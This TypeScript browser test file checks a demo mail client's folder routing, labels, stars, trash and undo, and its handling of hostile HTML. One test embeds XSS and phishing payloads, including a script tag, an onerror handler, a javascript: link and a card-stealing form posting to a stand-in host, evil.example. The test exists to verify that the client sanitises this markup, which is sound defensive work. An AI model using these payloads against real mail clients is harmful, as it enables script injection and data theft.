import * as v from 'valibot';
import { beforeEach, expect, test } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { done } from '../../src/core/kernel/answer.ts';
import { type Mail, mails } from '../../src/core/model/collections/demo/mails.ts';
import { demoPath } from '../../src/ui/routes/demo-path.ts';
import type { WatchRequest } from '../../src/worker/protocol/protocol.ts';
import { DESKTOP, openConsole, PHONE } from './support/console.tsx';
import { recordViews } from './support/records.ts';
import { CONNECTION } from './support/rows.ts';

/* The table, its states and its keys are the kit's. Here: what the mails add to it. */

const OTHER = { name: 'Amaya Eastlake', email: 'amaya@mailbox.example' };
const OWN = { name: 'Larkfield Desk', email: 'desk@larkfield.example' };

const letter = (id: number, subject: string, message = '<p>Hello.</p>') => ({
  id,
  from: OTHER,
  to: [OWN],
  cc: [],
  bcc: [],
  subject,
  message,
  time: '2021-07-14T10:00:00',
  attachments: [],
});

const mail = (id: number, subject: string, more: object = {}): Mail =>
  v.parse(mails.row, {
    ...letter(id, subject),
    labels: [],
    replies: [],
    folder: 'inbox',
    isStarred: false,
    isRead: true,
    isDeleted: false,
    ...more,
  });

const HOSTILE = `
  <p>Dear customer</p>
  <script>window.hit = 'script'</script>
  <img src="https://evil.example/pixel.png" alt="Logo" onerror="window.hit = 'onerror'">
  <form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>
  <a href="javascript:window.hit = 'link'">Press here</a>
  <a href="https://evil.example/bank">your bank</a>
  <link rel="stylesheet" href="https://evil.example/x.css">
  <style>body { display: none } p { background: url(https://evil.example/style.png) }</style>
  <iframe src="https://evil.example/frame"></iframe>
  <p style="position: fixed; inset: 0" onclick="window.hit = 'click'">Yours</p>`;

const MAILS = [
  mail(1, 'The plans', {
    isRead: false,
    labels: ['company'],
    replies: [letter(11, 'Re: The plans', '<p>Thanks.</p>')],
  }),
  mail(2, 'Old pipes', { isStarred: true, attachments: [{ fileName: 'plan.pdf', size: '5mb' }] }),
  mail(3, 'A prize', { folder: 'spam' }),
  mail(4, 'Long gone', { isDeleted: true }),
];

function viewsOf(all: readonly Mail[]) {
  const known = new Map<string, ReturnType<typeof recordViews>>();
  return (request: WatchRequest) => {
    if (!('collection' in request) || request.collection !== 'mails') return;
    const asked = request.view === 'records' ? request.query : null;
    const key = JSON.stringify(asked);
    const query = asked === null ? null : v.parse(mails.query, asked);
    const rows = query === null ? all : all.filter((row) => mails.find.matches(row, query));
    const views =
      known.get(key) ?? recordViews(mails, { rows, head: { facts: { inbox: 1, draft: 0, spam: 7 } } });
    known.set(key, views);
    return views(request.view === 'records' ? { ...request, query: {} } : request);
  };
}

const open = async (
  address = '',
  { all = MAILS, size = DESKTOP }: { all?: readonly Mail[]; size?: typeof DESKTOP | typeof PHONE } = {},
) =>
  openConsole(
    `${demoPath('mail')}${address}`,
    { viewOf: viewsOf(all), connection: CONNECTION },
    {
      size,
      answers: {
        writeRecord: ({ recordId, op, input }) =>
          done({
            state: 'written',
            recordId: recordId ?? '',
            inverse: { op, recordId: recordId ?? '', input: { back: true }, seen: input, version: 0 },
          }),
      },
    },
  );

type Opened = Awaited<ReturnType<typeof open>>;
const writesOf = ({ commands }: Opened) =>
  commands.flatMap((command) =>
    command.type === 'writeRecord' ? [[command.op, command.recordId, command.input]] : [],
  );

const subjects = () =>
  page
    .getByRole('row')
    .elements()
    .slice(1)
    .map((row) => row.querySelectorAll('[role=gridcell]')[3]?.textContent);

beforeEach(() => sessionStorage.clear());

test('the folder, the label and the open mail are in the address', async () => {
  await open();
  await expect.poll(subjects).toEqual(['The plans', 'Old pipes']);
  await page.getByRole('tab', { name: /Spam/ }).click();
  await expect.poll(subjects).toEqual(['A prize']);
  await page.getByRole('tab', { name: /Inbox/ }).click();
  await userEvent.selectOptions(page.getByRole('combobox', { name: 'Label' }), 'Company');
  await expect.poll(subjects).toEqual(['The plans']);
  await page.getByRole('row').nth(1).click();
  await expect.poll(() => location.search).toBe('?label=company&open=1');
  await page.getByRole('tab', { name: /Trash/ }).click();
  await expect.poll(() => location.search).toBe('?folder=trashed&label=company');
});

test('the folders show what the service counts', async () => {
  await open();
  await expect.element(page.getByRole('tab', { name: 'Inbox 1' })).toBeVisible();
  await expect.element(page.getByRole('tab', { name: 'Spam 7' })).toBeVisible();
  await expect.element(page.getByRole('tab', { name: 'Drafts', exact: true })).toBeVisible();
});

test('opening a mail marks it as read, and shows the answers to it', async () => {
  const opened = await open('?open=1');
  await expect.element(page.getByText('Thanks.')).toBeVisible();
  await expect.poll(() => writesOf(opened)).toEqual([['update', '1', { isRead: true }]]);
});

test('a mail that is read already is not written', async () => {
  const opened = await open('?open=2');
  await expect.element(page.getByText('plan.pdf')).toBeVisible();
  expect(writesOf(opened)).toEqual([]);
});

test('a label is put on and taken off, and a star is set in the row', async () => {
  const opened = await open('?open=2');
  await page.getByRole('button', { name: 'Private' }).click();
  await expect.poll(() => writesOf(opened)).toEqual([['label', '2', { label: 'private', on: true }]]);
  await page
    .getByRole('row', { name: /The plans/ })
    .getByRole('button', { name: 'Star' })
    .click();
  await expect.poll(() => writesOf(opened).at(-1)).toEqual(['update', '1', { isStarred: true }]);
});

test('a move to the trash closes the mail, and can be taken back', async () => {
  const opened = await open('?open=2');
  await page
    .getByRole('complementary')
    .getByRole('button', { name: /^Actions for/ })
    .click();
  await page.getByRole('menuitem', { name: 'Move to trash' }).click();
  await expect.poll(() => location.search).toBe('');
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect
    .poll(() => writesOf(opened))
    .toEqual([
      ['update', '2', { isDeleted: true }],
      ['update', '2', { back: true }],
    ]);
});

test('a label goes to the ticked mails that lack it', async () => {
  const opened = await open();
  for (const place of [0, 1])
    await page
      .getByRole('row')
      .nth(place + 1)
      .getByRole('checkbox')
      .click();
  await page.getByRole('main').getByRole('button', { name: 'Label' }).click();
  await page.getByRole('menuitem', { name: 'Company' }).click();
  await expect.poll(() => writesOf(opened)).toEqual([['label', '2', { label: 'company', on: true }]]);
});

test('hostile HTML is text: nothing of it runs, loads, or can be followed', async () => {
  const requested: string[] = [];
  const watching = new PerformanceObserver((list) => {
    for (const { name } of list.getEntries()) if (name.includes('evil')) requested.push(name);
  });
  watching.observe({ type: 'resource' });
  await open('?open=5', { all: [mail(5, 'Your card', { message: HOSTILE })] });
  const read = page.getByRole('article');
  await expect.element(read.getByText('Dear customer')).toBeVisible();
  await expect.element(read.getByText('A picture that is not loaded: Logo')).toBeVisible();
  await expect.element(read.getByText('<https://evil.example/bank>')).toBeVisible();
  await read.getByText('Press here').click();
  await read.getByText('Yours').click();
  const drawn = read.element();
  expect(drawn.querySelectorAll('script, img, form, input, button, a, link, style, iframe')).toHaveLength(0);
  expect([...drawn.querySelectorAll('*')].filter((one) => one.hasAttribute('style'))).toEqual([]);
  expect(Reflect.get(window, 'hit')).toBeUndefined();
  for (const { name } of watching.takeRecords()) if (name.includes('evil')) requested.push(name);
  expect(requested).toEqual([]);
  watching.disconnect();
});

test('on a phone a mail opens over the list', async () => {
  await open('', { size: PHONE });
  await page.getByText('Old pipes').click();
  await expect.element(page.getByRole('dialog').getByText('Hello.')).toBeVisible();
});
